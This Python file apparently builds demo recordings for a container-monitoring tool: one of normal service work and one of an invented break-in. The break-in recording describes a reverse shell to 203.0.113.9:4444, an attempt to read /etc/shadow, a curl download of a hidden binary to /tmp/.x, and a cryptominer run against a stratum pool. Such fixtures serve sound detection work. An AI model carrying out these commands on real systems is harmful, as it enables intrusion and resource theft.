"""
Write what the sample's container did: a day of honest work, and a night in which it is broken into.

Two recordings as `pratique watch --record` makes them; every event in them is invented. Addresses
are those that RFC 5737 keeps for documentation.
"""

from collections.abc import Iterator, Sequence
from pathlib import Path

from msgspec import Struct

from examples.demo.image import NAME
from pratique.formats.recording.values import Header, WorkloadFact
from pratique.formats.recording.writing import RecordingWriter
from pratique.model.observation import (
    Act,
    Duplicated,
    Executed,
    Exited,
    Forked,
    Observation,
    Opened,
    PathChanged,
    Resolved,
    SocketUsed,
    SyscallsSeen,
)
from pratique.model.workload import Workload

WORK, BREAK_IN = "work.recording", "break-in.recording"
SECOND = 1_000_000_000
MORNING = 1_770_091_506 * SECOND
"""2026-02-03 04:05:06 UTC."""
GROUP = 4242
USER = 1000
SERVER, SHELL, FETCHER, MINER = 900, 910, 911, 912
SH = "bash"
OWN, ELSEWHERE = "192.0.2.7", "203.0.113.9"
_INTERNET, _STREAM, _TCP = 2, 1, 6
_READ, _WRITE_NEW = 0, 0o1101
_CALLS = (0, 1, 3, 9, 12, 35, 41, 42, 43, 49, 50, 59, 231, 257)


class Deed(Struct, frozen=True):
    """One act of one process: who, how the kernel calls it, what, and the program it runs."""

    pid: int
    kind: str
    act: Act
    program: str = "harbourmaster"
    parent: int = 1
    result: int = 0


def write_recordings(folder: Path, digest: str) -> None:
    """Write both recordings of a container of the image ``digest`` into ``folder``."""
    night = MORNING + 86_400 * SECOND
    _write(folder / WORK, digest, [*_start(), *_work(), *_work()], MORNING)
    _write(folder / BREAK_IN, digest, [*_start(), *_work(), *_break_in()], night)


def _start() -> Iterator[Deed]:
    program = "/usr/bin/harbourmaster"
    yield Deed(SERVER, "execve", Executed(program, (program,), directory="/"))
    yield Deed(SERVER, "openat", Opened("/etc/harbourmaster.toml", _READ))
    yield Deed(SERVER, "listen", SocketUsed(3, _INTERNET, _STREAM, _TCP, local_port=8080))


def _work() -> Iterator[Deed]:
    """Ask the database behind the service which berths are free, and note it."""
    answers = ("192.0.2.20",)
    yield Deed(SERVER, "dns", Resolved("db.sample.example", answers=answers, response=True))
    yield Deed(SERVER, "connect", _to(answers[0], 5432))
    yield Deed(SERVER, "openat", Opened("/var/lib/harbourmaster/berths.db", _WRITE_NEW))
    yield Deed(SERVER, "syscalls", SyscallsSeen(_CALLS))


def _break_in() -> Iterator[Deed]:
    """Speak to a shell over the service's own connection, fetch a program, run it."""
    yield Deed(SERVER, "clone", Forked(SHELL))
    yield Deed(SHELL, "dup2", Duplicated(5, 0, _to(ELSEWHERE, 4444)), parent=SERVER)
    yield Deed(
        SHELL, "execve", Executed("/usr/bin/bash", ("bash", "-i"), directory="/"), SH, SERVER
    )
    yield Deed(SHELL, "openat", Opened("/etc/shadow"), SH, SERVER, -13)
    url = f"http://{ELSEWHERE}/x"
    fetching = Executed("/usr/bin/curl", ("curl", "-so", "/tmp/.x", url), directory="/tmp")
    yield Deed(FETCHER, "execve", fetching, "curl", SHELL)
    yield Deed(FETCHER, "connect", _to(ELSEWHERE, 80), "curl", SHELL)
    yield Deed(FETCHER, "openat", Opened("/tmp/.x", _WRITE_NEW, upper_layer=True), "curl", SHELL)
    yield Deed(FETCHER, "procexit", Exited(0), "curl", SHELL)
    yield Deed(SHELL, "fchmodat", PathChanged("/tmp/.x", mode=0o755), SH, SERVER)
    arguments = (".x", "-o", f"stratum+tcp://{ELSEWHERE}:3333")
    mining = Executed("/tmp/.x", arguments, directory="/tmp", upper_layer=True)
    yield Deed(MINER, "execve", mining, ".x", SHELL)
    yield Deed(MINER, "connect", _to(ELSEWHERE, 3333), ".x", SHELL)
    yield Deed(SERVER, "syscalls", SyscallsSeen((*_CALLS, 33, 203)))


def _to(address: str, port: int) -> SocketUsed:
    return SocketUsed(5, _INTERNET, _STREAM, _TCP, OWN, 49_152, address, port)


def _write(path: Path, digest: str, deeds: Sequence[Deed], start_ns: int) -> None:
    workload = Workload(
        id="b0a7" * 16,
        engine="podman",
        name="harbourmaster",
        image=NAME,
        digest=digest,
        started_ns=start_ns,
    )
    with path.open("wb") as file:
        header = Header(node="pier-1", sensor="ebpf", started_ns=start_ns, booted_ns=start_ns)
        writer = RecordingWriter(file.write, header)
        writer.workload(WorkloadFact(GROUP, 0, start_ns, workload))
        for number, deed in enumerate(deeds):
            writer.observation(_seen(deed, start_ns + (number + 1) * SECOND, number))
        writer.close(start_ns + (len(deeds) + 1) * SECOND)


def _seen(deed: Deed, time_ns: int, number: int) -> Observation:
    return Observation(
        type=deed.kind,
        act=deed.act,
        time_ns=time_ns,
        pid=deed.pid,
        tid=deed.pid,
        parent_pid=deed.parent,
        uid=USER,
        gid=USER,
        cgroup=GROUP,
        comm=deed.program,
        result=deed.result,
        sequence=number,
    )
